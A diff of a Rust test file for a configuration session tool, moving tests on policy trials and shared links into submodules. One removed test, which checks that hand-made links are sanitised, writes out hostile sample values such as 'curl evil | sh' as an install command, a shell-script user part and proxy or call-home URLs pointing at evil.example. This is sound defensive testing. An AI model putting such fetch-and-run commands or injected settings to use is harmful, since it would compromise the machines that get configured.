@@ -1,14 +1,15 @@
 //! What the session does with actions.
 
+mod links;
+mod trials;
+
 use std::collections::BTreeMap;
 use std::rc::Rc;
 
 use dynaboot_core::{Choices, Edit, Field, Policy, Python};
 use proptest::prelude::*;
-use serde_json::json;
 
 use super::{Action, Kept, Session};
-use crate::given::{Given, Vouched};
 use crate::link::{self, Unreadable};
 use crate::notice::Notice;
 use crate::view::View;
@@ -340,109 +341,4 @@ proptest! {
         }
         prop_assert_eq!(texts(&way), texts(&last));
     }
-}
-
-fn acme(more: &serde_json::Value) -> Given {
-    let mut policy = json!({ "name": "acme", "version": "3", "change": { "http-store": { "severity": "error" } } });
-    let (Some(policy_entries), Some(entries)) = (policy.as_object_mut(), more.as_object()) else { panic!("{more}") };
-    policy_entries.extend(entries.clone());
-    Given { policy: Rc::new(Policy::of_organisation(&policy).unwrap()), vouched: Vouched::Unsigned }
-}
-
-#[test]
-fn a_policy_is_tried_with_what_was_entered_and_left_again() {
-    let cloud = session().then(Action::Choose(Edit::new(Field::Cloud, "aws")));
-    let work = typed(&cloud, &Field::BundleStorePassword, "s3cret");
-    let work = typed(&work, &Field::Python, "2.7.");
-    assert!(work.own_policy().is_none());
-    let trial = work.then(Action::Try(acme(&json!({}))));
-    assert_eq!((trial.policy().stamp().name.as_str(), trial.own_policy().unwrap().name.as_str()), ("acme", "builtin"));
-    for field in [Field::Cloud, Field::BundleStorePassword, Field::Python] {
-        assert_eq!(trial.text(&field), work.text(&field), "{field}");
-    }
-    assert!(trial.problem(&Field::Python).is_some() && trial.notices().is_empty());
-    assert!(!trial.can_undo(), "what was entered by another policy is no step of this one");
-    assert_ne!(trial.fragment(), work.fragment(), "a link says by which policy it was made");
-    let visited = trial.then(Action::OpenLink("matrix".to_owned())).then(Action::OpenLink(work.fragment()));
-    assert_eq!(visited.text(&Field::BundleStorePassword), "s3cret", "the browser's way back takes nothing away");
-    let back = trial.then(Action::EndTrial);
-    assert_eq!(back.policy().stamp(), work.policy().stamp());
-    assert!(back.own_policy().is_none() && back.can_undo() && back != trial);
-    assert_eq!(back.then(Action::EndTrial).choices(), work.choices(), "there is nothing to go back from");
-}
-
-#[test]
-fn what_the_other_policy_does_not_know_is_left_out_and_comes_back() {
-    let work = session().then(Action::Choose(Edit::new(Field::Cloud, "aws")));
-    let work = work.then(Action::Choose(Edit::new(Field::System, "centos-7")));
-    let trial = work.then(Action::Try(acme(&json!({ "clouds": { "aws": null } }))));
-    assert_eq!((trial.text(&Field::Cloud).as_str(), trial.text(&Field::System).as_str()), ("", "centos-7"));
-    assert_eq!(trial.notices(), [Notice::Unknown(vec!["cloud".to_owned()])]);
-    let back = trial.then(Action::EndTrial);
-    assert_eq!(back.choices(), work.choices());
-    let changed = trial.then(Action::Choose(Edit::new(Field::System, "rhel-7")));
-    let again = changed.then(Action::Try(acme(&json!({})))).then(Action::EndTrial);
-    for back in [changed.then(Action::EndTrial), again] {
-        assert_eq!((back.text(&Field::Cloud).as_str(), back.text(&Field::System).as_str()), ("", "rhel-7"));
-        assert_eq!(back.then(Action::Undo).choices(), work.choices(), "one step back is what was there before");
-    }
-}
-
-#[test]
-fn work_by_another_policy_comes_back_as_far_as_it_is_known() {
-    let kept = r#"{"choices":{"cloud":"acme","system":"centos-7"},"drafts":{},"leftOut":[],"address":"plan"}"#;
-    let back = session().begun("plan", Kept::read(kept, session().policy()));
-    assert_eq!(back.text(&Field::System), "centos-7");
-    assert_eq!(back.notices(), [Notice::Unknown(vec!["cloud".to_owned()])]);
-}
-
-/// A link as somebody writes it who keeps to no rule of this page.
-fn made_by_hand(choices: &serde_json::Value) -> String {
-    use base64::Engine;
-    format!("plan={}", base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(choices.to_string()))
-}
-
-#[test]
-fn a_link_brings_nothing_that_no_link_of_ours_holds() {
-    let fragment = made_by_hand(&json!({
-        "cloud": "aws", "userPart": "#!/bin/sh\ncurl evil", "proxy": "http://evil.example", "callHome": "https://evil.example",
-        "agent": { "id": "generic", "settings": { "installCommand": "curl evil | sh", "serviceName": "x" } },
-        "bundleStore": { "url": "https://u:p@evil.example/b?sig=1", "user": "u", "password": "p" },
-        "software": { "commands": ["/bin/sh"], "packages": ["git"] },
-    }));
-    let opened = session().begun(&fragment, None);
-    let choices = opened.choices();
-    assert_eq!((&choices.user_part, &choices.proxy, &choices.call_home), (&None, &None, &None));
-    assert_eq!((choices.bundle_store.user.as_ref(), choices.bundle_store.password.is_some()), (None, false));
-    assert_eq!(choices.bundle_store.url.as_deref(), Some("https://evil.example/b"));
-    assert!(choices.software.commands.is_empty() && !choices.agent.settings.contains_key("installCommand"));
-    let [Notice::LeftOut(fields)] = opened.notices() else { panic!("{:?}", opened.notices()) };
-    for field in [Field::UserPart, Field::Proxy, Field::CallHome, Field::BundleStoreUrl, Field::SoftwareCommands] {
-        assert!(fields.contains(&field), "{field}");
-    }
-    let long = made_by_hand(&json!({ "image": { "id": "x".repeat(300_000) } }));
-    assert_eq!(session().begun(&long, None).notices(), [Notice::Unreadable(Unreadable::Broken)]);
-}
-
-#[test]
-fn what_came_by_a_link_waits_for_its_reader_however_it_is_changed() {
-    let of = |store: &str| made_by_hand(&json!({ "cloud": "aws", "bundleStore": { "url": store } }));
-    let opened = session().begun(&of("http://evil.example/b"), None);
-    assert_eq!(opened.unaccepted(), [&Field::BundleStoreUrl]);
-    assert_eq!(opened.to_keep("#"), None, "kept, it would come back as the reader's own");
-    let mended = opened.then(Action::Apply(vec![Edit::new(Field::BundleStoreUrl, "https://evil.example/b")]));
-    assert_eq!(mended.unaccepted(), [&Field::BundleStoreUrl]);
-    let gone = opened.then(Action::Choose(Edit::new(Field::BundleStoreUrl, serde_json::Value::Null)));
-    assert!(gone.unaccepted().is_empty());
-    let accepted = mended.then(Action::Accept);
-    assert!(accepted.unaccepted().is_empty() && accepted.to_keep("#").is_some());
-    // A foreign page changes the address of this one.
-    let again = accepted.then(Action::OpenLink(of("https://other.example/b")));
-    assert_eq!(again.unaccepted(), [&Field::BundleStoreUrl]);
-    assert!(again.then(Action::Undo).unaccepted().is_empty(), "what was accepted before");
-    // Of two, the second alone is looked at: no way leads back to the first without a question.
-    let third = again.then(Action::OpenLink(of("https://third.example/b"))).then(Action::Accept);
-    assert!(!third.can_undo() && third.unaccepted().is_empty());
-    let back = third.then(Action::OpenLink(of("https://other.example/b")));
-    assert_eq!(back.unaccepted(), [&Field::BundleStoreUrl]);
 }
